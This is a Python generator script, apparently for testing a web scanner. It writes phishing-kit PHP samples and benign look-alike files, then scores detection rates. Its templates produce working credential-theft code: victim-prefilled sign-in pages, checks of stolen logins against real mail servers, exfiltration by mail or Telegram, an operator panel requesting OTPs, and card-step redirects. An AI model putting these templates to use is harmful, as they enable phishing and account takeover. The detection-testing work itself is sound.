def t_autograb_page(r):
    """Sign-in page with the victim's address from the link and the domain's logo."""
    brand = r.choice(BRANDS)[0]
    gv = r.choice(["email", "e", "em", "user", "ai"])
    s = open_tag(r)
    s += r.choice([
        "$email = isset($_GET['%s']) ? $_GET['%s'] : '';\n" % (gv, gv),
        "$email = base64_decode($_GET['%s']);\n" % gv,
        "$email = filter_var($_REQUEST['%s'], FILTER_SANITIZE_EMAIL);\n" % gv,
    ])
    s += "$domain = substr(strrchr($email, '@'), 1);\n"
    s += r.choice(["$logo = 'https://logo.clearbit.com/' . $domain;\n", "$logo = 'https://www.google.com/s2/favicons?domain=' . $domain;\n",
                   "$logo = \"https://icons.duckduckgo.com/ip3/$domain.ico\";\n"])
    s += "$name = ucfirst(strtok($domain, '.'));\n?>\n"
    s += "<html><head><title><?php echo $name; ?> %s | Sign in</title></head><body>\n" % r.choice(["Webmail", "Mail", "Account", brand])
    s += "<img src=\"<?php echo $logo; ?>\"><h3>Sign in to continue to <?= $domain ?></h3>\n"
    s += "<form method=\"post\" action=\"%s\">\n" % r.choice(["post.php", "next.php", "send.php", "auth/login.php"])
    s += r.choice(["<input type=\"email\" name=\"email\" value=\"<?php echo $email; ?>\" readonly>\n",
                   "<input name=\"login\" value=\"<?=htmlspecialchars($email)?>\">\n"])
    s += "<input type=\"password\" name=\"%s\" placeholder=\"Password\">\n<button>Next</button></form></body></html>\n" % r.choice(["password", "pass", "pw"])
    return {r.choice(["index.php", "login.php", "mail.php", "portal.php"]): s}


def t_credential_check(r):
    """The stolen login checked against the real mail server before it is sent."""
    uf, pf = cred_fields(r)
    rq = req(r)
    s = open_tag(r) + "$u = %s['%s'];\n$p = %s['%s'];\n$dom = substr(strrchr($u, '@'), 1);\n" % (rq, uf, rq, pf)
    s += r.choice([
        "$mbox = @imap_open('{mail.' . $dom . ':993/imap/ssl/novalidate-cert}INBOX', $u, $p);\n$valid = $mbox ? 'VALID' : 'INVALID';\n",
        "$ch = curl_init('https://outlook.office365.com/EWS/Exchange.asmx');\ncurl_setopt($ch, CURLOPT_USERPWD, $u . ':' . $p);\n"
        "curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);\ncurl_exec($ch);\n$valid = curl_getinfo($ch, CURLINFO_HTTP_CODE) == 200 ? 'VALID' : 'BAD';\n",
    ])
    s += "$msg = \"Email: $u\\nPass: $p\\nStatus: $valid\\nIP: \" . $_SERVER['REMOTE_ADDR'];\n"
    s += r.choice(["mail('%s', \"$valid Office\", $msg);\n" % drop_addr(r),
                   "$t = '%s';\n$c = '%s';\n" % (tg_token(r), chat_id(r)) + tg_send(r, "t", "c", "msg")])
    s += "if ($valid != 'VALID') { header('Location: index.php?err=1&email=' . $u); exit; }\n" + brand_redirect(r)
    return {r.choice(["check.php", "validate.php", "login.php"]): s}


def t_admin_panel(r):
    """The kit's own panel: the results file or the victims' table shown to the owner."""
    pw = rnd(r, 8)
    res = r.choice(["../results.txt", "rez/log.txt", "data/victims.json", "logs/cc.txt"])
    s = open_tag(r) + "session_start();\n"
    s += "if (@$_POST['pw'] == '%s') $_SESSION['adm'] = 1;\n" % pw
    s += "if (empty($_SESSION['adm'])) { echo '<form method=post><input type=password name=pw></form>'; exit; }\n"
    if res.endswith(".json"):
        s += "$rows = json_decode(file_get_contents('%s'), true);\n" % res
        s += ("echo '<table>';\nforeach ($rows as $v) {\n    echo '<tr><td>' . $v['ip'] . '</td><td>' . $v['email'] . '</td><td>' . $v['password'] . '</td><td>' . $v['otp'] . '</td>'"
              " . '<td><a href=\"?cmd=otp&id=' . $v['id'] . '\">Ask OTP</a></td></tr>';\n}\n")
        s += "if (isset($_GET['cmd'])) { $rows[$_GET['id']]['page'] = $_GET['cmd']; file_put_contents('%s', json_encode($rows)); }\n" % res
    else:
        s += "if (isset($_GET['clear'])) { file_put_contents('%s', ''); }\n" % res
        s += "$log = file_get_contents('%s');\necho '<h2>Results (' . substr_count($log, 'Password') . ')</h2><pre>' . htmlspecialchars($log) . '</pre>';\n" % res
        s += "echo '<a href=\"?clear=1\">Clear logs</a>';\n"
    return {r.choice(["panel.php", "admin/index.php", "adm.php", "results.php"]): s}


def t_live_panel_poll(r):
    """Live-panel kit: the victim's page polls for what the operator wants next (OTP, card...)."""
    db = r.choice(["data/v.json", "db/sessions.json", ".vics.json"])
    s = open_tag(r) + "$id = $_GET['id'];\n$all = json_decode(@file_get_contents('%s'), true);\n" % db
    s += "if (isset($_POST['password'])) {\n    $all[$id]['password'] = $_POST['password'];\n    $all[$id]['ip'] = $_SERVER['REMOTE_ADDR'];\n"
    s += "    $all[$id]['ua'] = $_SERVER['HTTP_USER_AGENT'];\n    $all[$id]['status'] = 'wait';\n    file_put_contents('%s', json_encode($all));\n}\n" % db
    s += "header('Content-Type: application/json');\necho json_encode(array('next' => $all[$id]['page'] ?? 'loading'));\n"
    return {r.choice(["status.php", "poll.php", "api/wait.php"]): s}


def t_step_session(r):
    """Login step kept in the session, the visitor sent to the card step."""
    uf, pf = cred_fields(r)
    rq = req(r)
    s = open_tag(r) + "session_start();\n"
    s += "$_SESSION['%s'] = %s['%s'];\n$_SESSION['%s'] = %s['%s'];\n" % (r.choice(["email", "user", "login"]), rq, uf,
                                                                        r.choice(["pass", "password", "pwd"]), rq, pf)
    s += "$_SESSION['ip'] = $_SERVER['REMOTE_ADDR'];\n"
    s += r.choice(["header('Location: card.php?session=' . md5(time()));\n", "header(\"Location: ../billing/?id=\" . session_id());\n",
                   "echo \"<script>location.href='verify.php';</script>\";\n"])
    return {r.choice(["step1.php", "login.php", "signin.php"]): s}


MALICIOUS = [
    # name, function, minimum found rate, minimum high+ rate
    ("mail_backend", t_mail_backend, 1.0, 0.9),
    ("mail_config_split", t_mail_config_split, 1.0, 0.8),
    ("telegram_exfil", t_telegram_exfil, 1.0, 0.9),
    ("webhook_exfil", t_webhook_exfil, 1.0, 0.8),
    ("result_file", t_result_file, 1.0, 0.8),
    ("card_step", t_card_step, 1.0, 0.8),
    ("otp_step", t_otp_step, 1.0, 0.8),
    ("double_login", t_double_login, 1.0, 0.8),
    ("credential_check", t_credential_check, 1.0, 0.8),
    ("fingerprint_helper", t_fingerprint_helper, 0.75, 0.0),
    ("antibot_blocker", t_antibot_blocker, 0.9, 0.0),
    ("remote_antibot", t_remote_antibot, 0.75, 0.0),
    ("kit_config", t_kit_config, 0.75, 0.0),
    ("landing_copy", t_landing_copy, 0.9, 0.0),
    ("autograb_page", t_autograb_page, 0.9, 0.0),
    ("admin_panel", t_admin_panel, 0.75, 0.0),
    ("live_panel_poll", t_live_panel_poll, 0.75, 0.0),
    ("step_session", t_step_session, 0.9, 0.0),
]


# ---------------------------------------------------------------------------
# benign look-alikes


def b_contact_form(r):
    """Contact form mailing the site owner, with the sender's IP and browser."""
    to = r.choice(["info@example.com", "office@" + rnd(r, 6) + ".example", get_owner(r)])
    s = open_tag(r) + "$to = '%s';\n" % to
    s += "$name = strip_tags($_POST['name']);\n$email = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\n$text = strip_tags($_POST['message']);\n"
    s += "$ip = $_SERVER['REMOTE_ADDR'];\n"
    s += r.choice([
        "$body = \"Name: $name\\nEmail: $email\\nMessage:\\n$text\\n\\nSent from IP: $ip\\nBrowser: {$_SERVER['HTTP_USER_AGENT']}\";\n",
        "$body = <<<MSG\nName: {$name}\nE-mail: {$email}\nPhone: {$_POST['phone']}\n\n{$text}\n--\nIP: {$ip}\nMSG;\n",
    ])
    s += r.choice(["mail($to, 'Contact form: ' . $name, $body, 'Reply-To: ' . $email);\n",
                   "require 'vendor/autoload.php';\n$m = new PHPMailer\\PHPMailer\\PHPMailer();\n$m->addAddress($to);\n$m->addReplyTo($email);\n$m->Subject = 'Website enquiry';\n$m->Body = $body;\n$m->send();\n"])
    s += "header('Location: thanks.html');\n"
    return {"contact.php": s}


def get_owner(r):
    return r.choice(["owner", "bookings", "sales"]) + "@" + r.choice(["gmail.com", "outlook.com", "yahoo.com"])


def b_cms_login(r):
    """A CMS's login page: CSRF token, password_verify, session regeneration."""
    s = open_tag(r) + "session_start();\nrequire 'db.php';\n"
    s += "if ($_SERVER['REQUEST_METHOD'] === 'POST') {\n    if (!hash_equals($_SESSION['csrf'], $_POST['csrf'])) die('Bad token');\n"
    s += "    $st = $pdo->prepare('SELECT id, hash FROM users WHERE email = ?');\n    $st->execute([$_POST['email']]);\n    $u = $st->fetch();\n"
    s += "    if ($u && password_verify($_POST['password'], $u['hash'])) {\n        session_regenerate_id(true);\n        $_SESSION['uid'] = $u['id'];\n"
    s += "        header('Location: /admin/');\n        exit;\n    }\n"
    s += "    error_log('failed login for ' . $_POST['email'] . ' from ' . $_SERVER['REMOTE_ADDR']);\n    $err = 'Invalid login';\n}\n"
    s += "$_SESSION['csrf'] = bin2hex(random_bytes(16));\n?>\n<form method=\"post\"><input type=\"hidden\" name=\"csrf\" value=\"<?= $_SESSION['csrf'] ?>\">\n"
    s += "<input name=\"email\" value=\"<?= htmlspecialchars($_GET['email'] ?? '') ?>\"><input type=\"password\" name=\"password\"><button>Log in</button></form>\n"
    return {"login.php": s}


def b_geoip_plugin(r):
    """A geo-IP plugin: the visitor's country for currency and language."""
    s = open_tag(r) + "function shop_visitor_country() {\n    $ip = $_SERVER['REMOTE_ADDR'];\n"
    s += "    $c = get_transient('geo_' . md5($ip));\n    if ($c === false) {\n"
    s += r.choice(["        $r = wp_remote_get('http://ip-api.com/json/' . $ip . '?fields=countryCode');\n        $c = json_decode(wp_remote_retrieve_body($r))->countryCode;\n",
                   "        $g = @unserialize(file_get_contents('http://www.geoplugin.net/php.gp?ip=' . $ip));\n        $c = $g['geoplugin_countryCode'];\n"])
    s += "        set_transient('geo_' . md5($ip), $c, DAY_IN_SECONDS);\n    }\n    return $c;\n}\n"
    s += "add_filter('woocommerce_currency', function ($cur) { return shop_visitor_country() === 'GB' ? 'GBP' : $cur; });\n"
    return {"geo-currency.php": s}


def b_bot_blocker(r):
    """A security plugin's bad-bot blocker: SEO scrapers and scanners get a 403."""
    bots = r.sample(["AhrefsBot", "SemrushBot", "MJ12bot", "DotBot", "BLEXBot", "PetalBot", "MegaIndex", "sqlmap", "nikto",
                     "masscan", "zgrab", "python-requests", "curl", "wget", "Go-http-client"], 8)
    s = open_tag(r) + "/* Bad bot blocker: rate limits and scraper user agents. */\n"
    s += "$ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n"
    s += "$bad = array(%s);\n" % ", ".join("'%s'" % b for b in bots)
    s += "foreach ($bad as $b) {\n    if (stripos($ua, $b) !== false) {\n        header('HTTP/1.1 403 Forbidden');\n        exit('Forbidden');\n    }\n}\n"
    s += "$key = 'rl_' . $_SERVER['REMOTE_ADDR'];\nif (apcu_inc($key) > 120) { http_response_code(429); exit; }\n"
    return {"bad-bots.php": s}


def b_newsletter(r):
    """Newsletter signup posted to a mailing-list service's API."""
    s = open_tag(r) + "$email = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\nif (!$email) die('invalid');\n"
    s += "$c = curl_init('https://us6.api.mailchimp.com/3.0/lists/' . LIST_ID . '/members');\n"
    s += "curl_setopt($c, CURLOPT_USERPWD, 'user:' . MC_API_KEY);\n"
    s += "curl_setopt($c, CURLOPT_POSTFIELDS, json_encode(array('email_address' => $email, 'status' => 'pending', 'ip_signup' => $_SERVER['REMOTE_ADDR'])));\n"
    s += "curl_setopt($c, CURLOPT_RETURNTRANSFER, true);\ncurl_exec($c);\nheader('Location: /subscribed');\n"
    return {"subscribe.php": s}


def b_password_reset(r):
    """Password-reset mailer: a token link mailed to the account's own address."""
    s = open_tag(r) + "require 'bootstrap.php';\n$email = $_POST['email'];\n$user = User::findByEmail($email);\n"
    s += "if ($user) {\n    $token = bin2hex(random_bytes(32));\n    $user->reset_hash = password_hash($token, PASSWORD_DEFAULT);\n    $user->save();\n"
    s += "    $link = 'https://' . $_SERVER['HTTP_HOST'] . '/reset.php?t=' . $token . '&u=' . $user->id;\n"
    s += "    $msg = \"Someone (IP \" . $_SERVER['REMOTE_ADDR'] . \") asked to reset your password.\\nReset it here: $link\\n\";\n"
    s += "    mail($user->email, 'Password reset', $msg, 'From: noreply@example.com');\n}\necho 'If the address exists, a link was sent.';\n"
    return {"forgot.php": s}


def b_order_telegram(r):
    """Order notification to the shop owner's Telegram chat."""
    s = open_tag(r) + "add_action('woocommerce_thankyou', function ($order_id) {\n    $o = wc_get_order($order_id);\n"
    s += "    $token = get_option('tg_notify_token');\n    $chat = get_option('tg_notify_chat');\n"
    s += "    $text = \"New order #\" . $order_id . \"\\nTotal: \" . $o->get_total() . \"\\nCustomer: \" . $o->get_billing_first_name() . \"\\nPhone: \" . $o->get_billing_phone();\n"
    s += "    wp_remote_post('https://api.telegram.org/bot' . $token . '/sendMessage', array('body' => array('chat_id' => $chat, 'text' => $text)));\n});\n"
    return {"tg-notify.php": s}


def b_order_telegram_form(r):
    """A small site's order form: name, phone, address and IP to the owner's Telegram."""
    s = open_tag(r) + "$token = '%s';\n$chat = '%s';\n" % (tg_token(r), chat_id(r))
    s += "$text = \"Order: \" . $_POST['product'] . \"\\nName: \" . $_POST['name'] . \"\\nPhone: \" . $_POST['phone'] . \"\\nIP: \" . $_SERVER['REMOTE_ADDR'];\n"
    s += "file_get_contents('https://api.telegram.org/bot' . $token . '/sendMessage?chat_id=' . $chat . '&text=' . urlencode($text));\n"
    s += "header('Location: thanks.html');\n"
    return {"order.php": s}


def b_register_welcome(r):
    """Registration that mails the new member their own login (old apps did)."""
    s = open_tag(r) + "$email = $_POST['email'];\n$pass = $_POST['password'];\n"
    s += "$db->query(\"INSERT INTO members (email, pass, ip) VALUES (?, ?, ?)\", [$email, password_hash($pass, PASSWORD_BCRYPT), $_SERVER['REMOTE_ADDR']]);\n"
    s += "$msg = \"Welcome!\\nYour login: $email\\nYour password: $pass\\n\";\nmail($email, 'Your account', $msg);\nheader('Location: welcome.php');\n"
    return {"register.php": s}


def b_login_audit(r):
    """A security plugin logging failed logins (user name, IP, agent) to a file."""
    s = open_tag(r) + "function audit_failed_login($username) {\n"
    s += "    $line = sprintf(\"%s\\tFAILED\\t%s\\t%s\\t%s\\n\", date('c'), $username, $_SERVER['REMOTE_ADDR'], $_SERVER['HTTP_USER_AGENT']);\n"
    s += "    file_put_contents(WP_CONTENT_DIR . '/audit/login.log', $line, FILE_APPEND | LOCK_EX);\n}\nadd_action('wp_login_failed', 'audit_failed_login');\n"
    return {"audit.php": s}


def b_app_config(r):
    """An application's config file with the admin's address and SMTP settings."""
    s = "<?php\nreturn [\n    'admin_email' => '%s',\n    'smtp' => ['host' => 'smtp.example.com', 'user' => 'mailer', 'pass' => getenv('SMTP_PASS'), 'port' => 587],\n" % get_owner(r)
    s += "    'telegram' => ['token' => getenv('TG_TOKEN'), 'chat_id' => '%s'],\n    'debug' => false,\n];\n" % chat_id(r)
    return {"config.php": s}


def b_copy_dir(r):
    """A theme installer copying its skeleton into a new site folder."""
    s = open_tag(r) + "function copy_skeleton($src, $dst) {\n    @mkdir($dst, 0755, true);\n    foreach (scandir($src) as $f) {\n"
    s += "        if ($f === '.' || $f === '..') continue;\n        is_dir(\"$src/$f\") ? copy_skeleton(\"$src/$f\", \"$dst/$f\") : copy(\"$src/$f\", \"$dst/$f\");\n    }\n}\n"
    s += "if (!current_user_can('manage_options')) wp_die('no');\n$slug = sanitize_title($_POST['site_name']);\ncopy_skeleton(__DIR__ . '/skeleton', ABSPATH . 'sites/' . $slug);\n"
    s += "wp_redirect(admin_url('admin.php?page=sites&created=' . $slug));\n"
    return {"installer.php": s}


def b_smtp_test(r):
    """An installer's mail-settings test: the posted IMAP login tried on the server."""
    s = open_tag(r) + "if (!is_admin_user()) exit;\n$h = $_POST['imap_host'];\n"
    s += "$box = @imap_open('{' . $h . ':993/imap/ssl}INBOX', $_POST['imap_user'], $_POST['imap_pass']);\n"
    s += "echo json_encode(array('ok' => (bool)$box, 'error' => imap_last_error()));\n"
    return {"mail-test.php": s}


def b_payment(r):
    """A shop's checkout posting the card to the payment gateway."""
    s = open_tag(r) + "$c = curl_init('https://api.gateway.example.com/v1/charges');\n"
    s += "curl_setopt($c, CURLOPT_USERPWD, GATEWAY_SECRET . ':');\n"
    s += "curl_setopt($c, CURLOPT_POSTFIELDS, http_build_query(array('amount' => $total, 'card[number]' => $_POST['cardnumber'], 'card[cvc]' => $_POST['cvc'],\n"
    s += "    'card[exp]' => $_POST['exp'], 'customer_ip' => $_SERVER['REMOTE_ADDR'], 'user_agent' => $_SERVER['HTTP_USER_AGENT'])));\n"
    s += "curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n$res = json_decode(curl_exec($c));\nif ($res->paid) header('Location: /order/complete');\n"
    return {"checkout.php": s}


def b_discord_contact(r):
    """A contact form posted to the owner's Discord channel."""
    s = open_tag(r) + "$hook = getenv('DISCORD_WEBHOOK');\n$content = \"**New message** from \" . $_POST['name'] . \" (\" . $_POST['email'] . \")\\n\" . $_POST['message'];\n"
    s += "$c = curl_init($hook);\ncurl_setopt($c, CURLOPT_POSTFIELDS, json_encode(array('content' => $content)));\n"
    s += "curl_setopt($c, CURLOPT_HTTPHEADER, array('Content-Type: application/json'));\ncurl_exec($c);\n"
    return {"notify.php": s}


def b_admin_logs(r):
    """An app's admin page showing its error log (password-protected)."""
    s = open_tag(r) + "require 'auth.php';\nrequire_admin();\n$log = file_get_contents(__DIR__ . '/../storage/logs/app.log');\n"
    s += "if (isset($_POST['clear']) && verify_nonce($_POST['nonce'])) file_put_contents(__DIR__ . '/../storage/logs/app.log', '');\n"
    s += "echo '<h2>Application log</h2><pre>' . htmlspecialchars($log) . '</pre>';\n"
    return {"logs.php": s}


def b_lang_redirect(r):
    """Language redirect by the visitor's country."""
    s = open_tag(r) + "$ip = $_SERVER['REMOTE_ADDR'];\n$g = json_decode(@file_get_contents('http://ip-api.com/json/' . $ip), true);\n"
    s += "$map = array('DE' => '/de/', 'FR' => '/fr/', 'ES' => '/es/');\n"
    s += "if (isset($map[$g['countryCode']])) { header('Location: ' . $map[$g['countryCode']]); exit; }\ninclude 'home.php';\n"
    return {"index.php": s}


def b_sso_login(r):
    """A company's login page that prefills the address and posts to itself."""
    s = "<?php\nsession_start();\n$email = htmlspecialchars($_GET['email'] ?? '');\n$_SESSION['nonce'] = bin2hex(random_bytes(8));\n?>\n"
    s += "<html><head><title>Staff portal - Sign in</title></head><body><h3>Sign in with your company account</h3>\n"
    s += "<form method=\"post\" action=\"auth.php\"><input type=\"hidden\" name=\"nonce\" value=\"<?= $_SESSION['nonce'] ?>\">\n"
    s += "<input name=\"email\" value=\"<?php echo $email; ?>\"><input type=\"password\" name=\"password\"><button>Sign in</button></form></body></html>\n"
    return {"portal.php": s}


BENIGN = [
    ("contact_form", b_contact_form), ("cms_login", b_cms_login), ("geoip_plugin", b_geoip_plugin),
    ("bot_blocker_plugin", b_bot_blocker), ("newsletter", b_newsletter), ("password_reset", b_password_reset),
    ("order_telegram", b_order_telegram), ("order_telegram_form", b_order_telegram_form),
    ("register_welcome", b_register_welcome), ("login_audit", b_login_audit), ("app_config", b_app_config),
    ("copy_dir_installer", b_copy_dir), ("smtp_test", b_smtp_test), ("payment_gateway", b_payment),
    ("discord_contact", b_discord_contact), ("admin_logs", b_admin_logs), ("lang_redirect", b_lang_redirect),
    ("sso_login", b_sso_login),
]


# ---------------------------------------------------------------------------


def safe_out(path):
    real = os.path.realpath(path)
    roots = {os.path.realpath(p) for p in (tempfile.gettempdir(), "/tmp", "/var/tmp")}
    if not any(real.startswith(t + "/") for t in roots):
        sys.exit("phishgen: %s is not under a temp dir" % path)
    if {"public_html", "www", "htdocs", "httpdocs", "wp-content"} & set(real.split("/")):
        sys.exit("phishgen: %s looks like a web root" % path)
    if os.path.exists(real) and os.listdir(real):
        sys.exit("phishgen: %s is not empty" % path)
    return real


def write_set(out, seed, per, malicious, benign, prefix):
    """Write per variants of every technique of malicious ((name, fn, found
    target, high target)) and benign ((name, fn)), each drawn from its own
    Random(prefix:seed:name:i), and variants.tsv; return [(path, class,
    technique)] of the measured files."""
    rows = []
    for cls, table in (("malicious", [(n, f) for n, f, _, _ in malicious]), ("benign", benign)):
        for name, fn in table:
            for i in range(per):
                r = random.Random("%s:%d:%s:%d" % (prefix, seed, name, i))
                files = fn(r)
                base = os.path.join(out, cls, name, "v%02d" % i)
                for j, (rel, text) in enumerate(files.items()):
                    p = os.path.join(base, rel)
                    os.makedirs(os.path.dirname(p), exist_ok=True)
                    with open(p, "w") as f:
                        f.write(text)
                    # the technique is measured on its first file; a
                    # config or include it needs is measured as itself only
                    # when the technique is a config
                    if j == 0:
                        rows.append((p, cls, name))
    with open(os.path.join(out, "variants.tsv"), "w") as f:
        f.write("file\tclass\ttechnique\n")
        for p, c, n in rows:
            f.write("%s\t%s\t%s\n" % (os.path.relpath(p, out), c, n))
    return rows


def generate(out, seed, per):
    """Write the files; return [(path, class, technique)] of the measured files."""
    return write_set(out, seed, per, MALICIOUS, BENIGN, "phishgen")

def scan(bin_, out):
    p = subprocess.run([bin_, "-q", "--full", "--format", "json", "scan", out], stdout=subprocess.PIPE,
                       stderr=subprocess.DEVNULL, check=False)
    found = {}
    for line in p.stdout.decode("utf-8", "replace").splitlines():
        try:
            o = json.loads(line)
        except ValueError:
            continue
        if o.get("type") == "finding" and o.get("path"):
            found[os.path.realpath(o["path"])] = (o.get("severity", "low"), o.get("rules", []))
    return found


def cli(doc, generate, malicious, prefix, list_below_high=False):
    """The command line of a phishing generator (this one and phishgen2.py):
    write a set (--out), or scan one with --bin and print the rates per
    technique (--scan), with PASS/FAIL verdicts against each technique's
    target and no look-alike high (--check). --show-missed lists the missed
    malicious files and the look-alikes with a finding (and, with
    list_below_high, the malicious files found below high)."""
    ap = argparse.ArgumentParser(description=doc, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=12)
    ap.add_argument("--scan", action="store_true")
    ap.add_argument("--check", action="store_true")
    ap.add_argument("--bin", default="./hostsweep")
    ap.add_argument("--show-missed", action="store_true")
    ap.add_argument("--show-rules", action="store_true")
    a = ap.parse_args()
    if not (a.scan or a.check):
        if not a.out:
            ap.error("--out DIR, or --scan")
        generate(safe_out(a.out), a.seed, a.per)
        return 0
    tmp = tempfile.mkdtemp(prefix=prefix + ".")
    out = os.path.join(tmp, "set")
    rows = generate(out, a.seed, a.per)
    found = scan(a.bin, out)
    stats, verdicts = {}, []
    for p, cls, name in rows:
        sev, rules = found.get(os.path.realpath(p), (None, []))
        st = stats.setdefault((cls, name), [0, 0, 0, []])
        st[0] += 1
        st[1] += bool(sev)
        st[2] += bool(sev and SEV[sev] >= 3)
        below = list_below_high and sev and SEV[sev] < 3
        if (cls == "malicious" and (not sev or a.show_rules or below)) or (cls == "benign" and sev):
            st[3].append((os.path.relpath(p, out), sev, rules))
    targets = {n: (f, h) for n, _, f, h in malicious}
    tot = [0, 0, 0]
    print("%-10s %-22s %5s %8s %8s" % ("class", "technique", "n", "found", "high+"))
    for (cls, name), (n, f, h, lst) in stats.items():
        print("%-10s %-22s %5d %7.0f%% %7.0f%%" % (cls, name, n, 100.0 * f / n, 100.0 * h / n))
        if cls == "malicious":
            tot = [tot[0] + n, tot[1] + f, tot[2] + h]
            tf, th = targets[name]
            verdicts.append((f >= tf * n and h >= th * n, "technique %s: found %d/%d (target %.0f%%), high+ %d/%d (target %.0f%%)"
                             % (name, f, n, 100 * tf, h, n, 100 * th)))
        else:
            verdicts.append((h == 0, "look-alike %s: %d of %d high/critical (target 0), %d with a finding" % (name, h, n, f)))
        if a.show_missed or (a.check and cls == "benign" and h):
            for rel, sev, rules in lst:
                print("    %s %s %s" % (rel, sev or "-", ",".join(rules)))
    print("malicious total: %d files, found %.1f%%, high+ %.1f%%" % (tot[0], 100.0 * tot[1] / tot[0], 100.0 * tot[2] / tot[0]))
    bn = sum(v[0] for k, v in stats.items() if k[0] == "benign")
    bf = sum(v[1] for k, v in stats.items() if k[0] == "benign")
    bh = sum(v[2] for k, v in stats.items() if k[0] == "benign")
    print("benign total: %d files, with a finding %d, high+ %d" % (bn, bf, bh))
    shutil.rmtree(tmp, ignore_errors=True)
    if a.check:
        for good, text in verdicts:
            print("%s %s" % ("PASS" if good else "FAIL", text))
        return 0 if all(g for g, _ in verdicts) else 1
    return 0


def main():
    return cli(__doc__, generate, MALICIOUS, "phishgen")


if __name__ == "__main__":
    sys.exit(main())
